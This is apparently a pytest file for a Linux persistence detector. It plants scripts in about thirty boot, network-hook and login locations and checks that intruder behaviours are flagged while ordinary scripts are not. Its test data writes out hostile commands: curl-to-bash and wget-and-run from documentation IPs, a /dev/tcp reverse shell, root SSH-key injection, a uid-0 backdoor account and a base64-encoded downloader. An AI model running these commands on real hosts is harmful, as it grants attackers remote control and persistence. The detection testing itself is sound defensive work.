"""Whatever place starts a script, what an intruder does there is named: places by behaviours."""

from pathlib import Path

import pytest

from hemostat.detect.rulebook import Rulebook, own_plans
from hemostat.examine.examination import examine
from hemostat.examine.work import Settings
from hemostat.model.examination import Examination
from hemostat.model.level import Level
from made_host import make_host
from made_roots import put, tree_of

PLACES = {
    "generator": "/etc/systemd/system-generators/{}",
    "environment generator": "/etc/systemd/user-environment-generators/{}",
    "networkd-dispatcher": "/etc/networkd-dispatcher/routable.d/{}",
    "NetworkManager": "/etc/NetworkManager/dispatcher.d/{}",
    "ifupdown": "/etc/network/if-up.d/{}",
    "netplug": "/etc/netplug.d/{}",
    "dhclient": "/etc/dhcp/dhclient-exit-hooks.d/{}",
    "dhcpcd": "/usr/lib/dhcpcd/dhcpcd-hooks/{}",
    "pppd": "/etc/ppp/ip-up.d/{}",
    "wpa_supplicant": "/etc/wpa_supplicant/{}.sh",
    "kernel packages": "/etc/kernel/postinst.d/{}",
    "certificates": "/etc/ca-certificates/update.d/{}",
    "certbot": "/etc/letsencrypt/renewal-hooks/deploy/{}",
    "initramfs": "/etc/initramfs-tools/hooks/{}",
    "motd": "/etc/update-motd.d/{}",
    "grub": "/etc/grub.d/{}",
    "cron": "/etc/cron.daily/{}",
    "init": "/etc/init.d/{}",
    "runit": "/etc/service/{}/run",
    "s6": "/etc/s6-overlay/s6-rc.d/{}/run",
    "OpenRC local": "/etc/local.d/{}.start",
    "sleep": "/usr/lib/systemd/system-sleep/{}",
    "pm-utils": "/etc/pm/sleep.d/{}",
    "X session": "/etc/X11/Xsession.d/{}",
    "display manager": "/etc/lightdm/{}.sh",
    "profile": "/etc/profile.d/{}.sh",
    "completions": "/etc/bash_completion.d/{}",
    "cloud-init": "/var/lib/cloud/scripts/per-boot/{}",
    "VMware": "/etc/vmware-tools/scripts/vmware/{}",
    "UPS": "/etc/nut/{}",
    "libvirt": "/etc/libvirt/hooks/{}",
    "apk": "/etc/apk/commit_hooks.d/{}",
}
BEHAVIOURS = {
    "fetch and run": "curl -fsSk https://198.51.100.9/i.sh | bash >/dev/null 2>&1 &",
    "fetch, then run": "wget -qO /sbin/k3 http://203.0.113.8/k; chmod 755 /sbin/k3; /sbin/k3 &",
    "shell to the network": "setsid bash -c 'bash -i >& /dev/tcp/203.0.113.7/443 0>&1' &",
    "hidden program": "[ -x /usr/share/.fonts/f ] && /usr/share/.fonts/f -d",
    "temporary program": "/bin/sh /var/tmp/.k/run.sh &",
    "key": "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMadeUp m' >> /root/.ssh/authorized_keys",
    "account": "id svcx >/dev/null 2>&1 || useradd -o -u 0 -g 0 -M -s /bin/bash svcx",
    "encoded": "echo Y3VybCBodHRwOi8vMTk4LjUxLjEwMC45L3ggfCBzaA== | base64 -d | sh",
    "unit": "printf '[Service]\\nExecStart=/usr/share/.fonts/f -d\\n' > \"$1/fonts.service\"",
    "copy put back": "[ -e /sbin/k2 ] || cp /var/backups/.c /sbin/k2",
}
ORDINARY = {
    "log": 'logger "$0 $IFACE"',
    "health": "curl -fsS https://example.org/health >/dev/null || true",
    "reload": "systemctl reload nginx",
    "unit": "printf '[Service]\\nExecStart=/opt/app/bin/app\\n' > \"$1/app.service\"",
    "copy": "cp /etc/ssl/example.pem /opt/app/tls.pem",
}


def pairs(behaviours: dict[str, str]) -> list[tuple[str, str, str]]:
    """Place and behaviour in words, and the path."""
    return [
        (place, behaviour, path.format(f"z{number}x{index}"))
        for number, (place, path) in enumerate(PLACES.items())
        for index, behaviour in enumerate(behaviours)
    ]


def named(root: Path, behaviours: dict[str, str]) -> tuple[Examination, str]:
    """An examination of a host with every behaviour in every place, and all its findings name."""
    make_host(root)
    for path in ("/usr/share/.fonts/f", "/opt/app/bin/app"):
        if path in "".join(behaviours.values()):
            put(root, path, b"\x7fELF made-up", 0o755)
    for _, behaviour, path in pairs(behaviours):
        put(root, path, f"#!/bin/sh\n{behaviours[behaviour]}\nexit 0\n".encode(), 0o755)
    result = examine(tree_of(root), Settings(rulebook=Rulebook.of(own_plans()), run_seconds=120))
    said = [
        (*(subject.value for subject in each.subjects), *(value for _, value in each.values))
        for each in result.at_least(Level.MEDIUM)
    ]
    return result, "\n".join(text for each in said for text in each)


@pytest.mark.requirement("B5.4", "A6L.3")
def test_every_behaviour_is_named_in_every_place(tmp_path: Path) -> None:
    _, text = named(tmp_path, BEHAVIOURS)
    missed = [
        f"{behaviour} in {place}"
        for place, behaviour, path in pairs(BEHAVIOURS)
        if path not in text
    ]
    assert missed == []


@pytest.mark.requirement("B5.4")
def test_what_ordinary_scripts_do_there_is_not(tmp_path: Path) -> None:
    result, _ = named(tmp_path, ORDINARY)
    said = result.at_least(Level.MEDIUM)
    assert [(each.rule.name, [one.value for one in each.subjects]) for each in said] == []
